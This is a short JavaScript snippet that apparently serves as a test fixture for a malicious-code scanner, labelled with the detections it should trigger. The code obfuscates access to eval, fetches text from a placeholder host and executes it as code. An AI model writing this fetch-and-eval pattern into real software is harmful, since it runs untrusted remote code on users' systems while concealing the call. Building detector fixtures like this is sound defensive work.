const run = globalThis[['ev', 'al'].join('')];
const get = async (url) => (await fetch(url)).text();
get('https://stage.example/x').then((text) => run(text)); // expect: malicious-command/remote-eval, malicious-command/obfuscated-api-access
